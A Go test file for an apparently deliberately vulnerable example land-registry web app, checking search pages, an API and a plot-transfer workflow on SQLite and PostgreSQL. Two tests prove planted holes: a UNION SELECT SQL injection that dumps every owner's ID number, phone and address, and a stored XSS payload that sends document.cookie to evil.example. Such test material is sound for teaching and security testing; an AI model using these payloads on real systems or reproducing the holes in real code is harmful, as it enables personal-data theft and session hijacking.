package landregistry_test

import (
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"pasban/examples/landregistry"
)

// each runs a test against the application on every database that it knows.
func each(t *testing.T, test func(t *testing.T, base string)) {
	t.Helper()
	for name, dsn := range map[string]func(*testing.T) string{
		"sqlite":   func(t *testing.T) string { return filepath.Join(t.TempDir(), "land record? #1.db") },
		"postgres": postgres,
	} {
		t.Run(name, func(t *testing.T) { test(t, start(t, dsn(t))) })
	}
}

func start(t *testing.T, dsn string) string {
	t.Helper()
	app, err := landregistry.New(t.Context(), landregistry.Options{DSN: dsn})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { app.Close() })
	owners, holdings, err := landregistry.Sample()
	if err != nil {
		t.Fatal(err)
	}
	for range 2 { // the second time changes nothing
		if err := app.Seed(t.Context(), owners, holdings); err != nil {
			t.Fatal(err)
		}
	}
	srv := httptest.NewServer(app)
	t.Cleanup(srv.Close)
	return srv.URL
}

func get(t *testing.T, address string) (int, string) {
	t.Helper()
	resp, err := http.Get(address)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, resp)
}

func post(t *testing.T, address string, form url.Values) (int, string) {
	t.Helper()
	resp, err := http.PostForm(address, form)
	if err != nil {
		t.Fatal(err)
	}
	return read(t, resp)
}

func read(t *testing.T, resp *http.Response) (int, string) {
	t.Helper()
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(body)
}

func TestPages(t *testing.T) {
	each(t, func(t *testing.T, base string) {
		for _, test := range []struct {
			path   string
			status int
			want   string
		}{
			{"/", 200, "<option>Rawalpindi</option>"},
			{"/records/search?district=rawalpindi&mouza=Adiala&khasra=123%2F4&page=1", 200, `<a href="/plots/Rawalpindi/Adiala/123-4">`},
			{"/records/search?district=Lahore", 200, "Niaz%20Beg/77-1"},
			{"/records/search?district=Nowhere", 200, "No record found"},
			{"/records/search?district=Lahore&page=2", 200, "No record found"},
			{"/records/99100-0000001-1", 200, "عائشہ ملک"},
			{"/records/99100-9999999-9", 404, "no rows"},
			{"/plots/Rawalpindi/Adiala/123-5", 200, "99100-0000003-2"},
			{"/plots/Rawalpindi/Adiala/1", 404, "no rows"},
			{"/api/plots/Multan/Shujabad/310-2", 200, `"share":"2/3"`},
			{"/api/records/99100-9999999-9", 404, `"error"`},
			{"/mutations", 200, "None entered"},
			{"/mutations/new?district=Lahore&mouza=Niaz+Beg&khasra=78&from=99100-0000008-6", 200, `value="99100-0000008-6"`},
			{"/mutations/7", 404, "no rows"},
			{"/static/style.css", 200, "table.page"},
			{"/static/app.js?v=1.2.3", 200, "openRecord"},
		} {
			if status, body := get(t, base+test.path); status != test.status || !strings.Contains(body, test.want) {
				t.Errorf("GET %s: status %d, want %d with %q in:\n%s", test.path, status, test.status, test.want, body)
			}
		}
		_, body := get(t, base+"/api/records/99100-0000001-1")
		var rec struct {
			landregistry.Owner
			Holdings []landregistry.Holding
		}
		if err := json.Unmarshal([]byte(body), &rec); err != nil || rec.Name != "Ayesha Malik" || len(rec.Holdings) != 1 || rec.Holdings[0].Khasra != "123/4" {
			t.Errorf("the API says %+v, %v", rec, err)
		}
		if _, body := get(t, base+"/records/search?district=%3Cb%3E"); strings.Contains(body, "<b><b>") {
			t.Error("the search page does not escape: that is not one of the holes")
		}
	})
}

func mutationForm(note string) url.Values {
	return url.Values{
		"district": {"Rawalpindi"}, "mouza": {"Adiala"}, "khasra": {"123/4"},
		"from": {"99100-0000001-1"}, "to": {"99100-0000002-3"}, "kind": {"sale"}, "note": {note},
	}
}

func TestMutation(t *testing.T) {
	each(t, func(t *testing.T, base string) {
		if status, body := post(t, base+"/mutations", mutationForm("Rs. 500,000 paid")); status != 200 || !strings.Contains(body, "Attest") {
			t.Fatalf("enter: %d\n%s", status, body)
		}
		if status, body := post(t, base+"/mutations/1/attest", nil); status != 200 || !strings.Contains(body, "attested") {
			t.Fatalf("attest: %d\n%s", status, body)
		}
		if _, body := get(t, base+"/records/99100-0000002-3"); !strings.Contains(body, "123/4") {
			t.Error("the new owner does not hold the plot")
		}
		if status, _ := post(t, base+"/mutations/1/attest", nil); status != 404 {
			t.Errorf("attested twice: %d", status)
		}
		if status, _ := post(t, base+"/mutations", mutationForm("again")); status != 404 {
			t.Errorf("sold by someone who does not hold it: %d", status)
		}
	})
}

// TestSQLInjection proves HOLE 1: the public search gives away everybody.
func TestSQLInjection(t *testing.T) {
	each(t, func(t *testing.T, base string) {
		for _, field := range []string{"district", "mouza", "khasra"} {
			q := url.Values{"district": {"x"}}
			quote := "') "
			if field == "khasra" {
				quote = "' "
			}
			q.Set(field, quote+"UNION SELECT cnic, name, mobile, 0, 0, address FROM owners -- ")
			status, body := get(t, base+"/records/search?"+q.Encode())
			if n := strings.Count(body, "<td>99100-"); status != 200 || n != 10 {
				t.Errorf("through %s: status %d, %d people, want all 10", field, status, n)
			}
		}
	})
}

// TestStoredXSS proves HOLE 2: a note's script reaches every later visitor.
func TestStoredXSS(t *testing.T) {
	each(t, func(t *testing.T, base string) {
		const script = `<script>fetch('//evil.example/'+document.cookie)</script>`
		post(t, base+"/mutations", mutationForm(script))
		for _, path := range []string{"/mutations", "/mutations/1"} {
			if _, body := get(t, base+path); !strings.Contains(body, script) {
				t.Errorf("%s does not carry the script", path)
			}
		}
	})
}

// postgres starts a PostgreSQL of its own for the test and returns its address.
func postgres(t *testing.T) string {
	t.Helper()
	bin := postgresBin()
	if bin == "" {
		t.Skip("PostgreSQL's initdb and postgres are not installed")
	}
	dir, err := os.MkdirTemp("", "landregistry")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	port := freePort(t)
	as := asPostgres(t, dir)
	run := func(name string, args ...string) *exec.Cmd {
		cmd := exec.Command(filepath.Join(bin, name), args...)
		cmd.Dir, cmd.SysProcAttr = dir, as
		return cmd
	}
	data := filepath.Join(dir, "data")
	if out, err := run("initdb", "-D", data, "-U", "land", "-A", "trust", "-N", "-E", "UTF8", "--locale=C").CombinedOutput(); err != nil {
		t.Fatalf("initdb: %v\n%s", err, out)
	}
	start := run("pg_ctl", "-D", data, "-w", "-l", filepath.Join(dir, "log"),
		"-o", "-F -c listen_addresses=127.0.0.1 -c unix_socket_directories='' -p "+port, "start")
	if out, err := start.CombinedOutput(); err != nil {
		log, _ := os.ReadFile(filepath.Join(dir, "log"))
		t.Fatalf("start: %v\n%s%s", err, out, log)
	}
	t.Cleanup(func() { run("pg_ctl", "-D", data, "-m", "immediate", "stop").Run() })
	return "postgres://land@127.0.0.1:" + port + "/postgres?sslmode=disable"
}

func postgresBin() string {
	if path, err := exec.LookPath("initdb"); err == nil {
		return filepath.Dir(path)
	}
	found, _ := filepath.Glob("/usr/lib/postgresql/*/bin/initdb")
	if len(found) == 0 {
		return ""
	}
	return filepath.Dir(found[len(found)-1])
}

// asPostgres gives dir to the user postgres when the test runs as root, whom
// PostgreSQL refuses.
func asPostgres(t *testing.T, dir string) *syscall.SysProcAttr {
	t.Helper()
	if os.Getuid() != 0 {
		return nil
	}
	u, err := user.Lookup("postgres")
	if err != nil {
		t.Skip("running as root, and there is no user postgres to run the database as")
	}
	uid, _ := strconv.Atoi(u.Uid)
	gid, _ := strconv.Atoi(u.Gid)
	if err := os.Chown(dir, uid, gid); err != nil {
		t.Fatal(err)
	}
	return &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: uint32(uid), Gid: uint32(gid)}}
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}
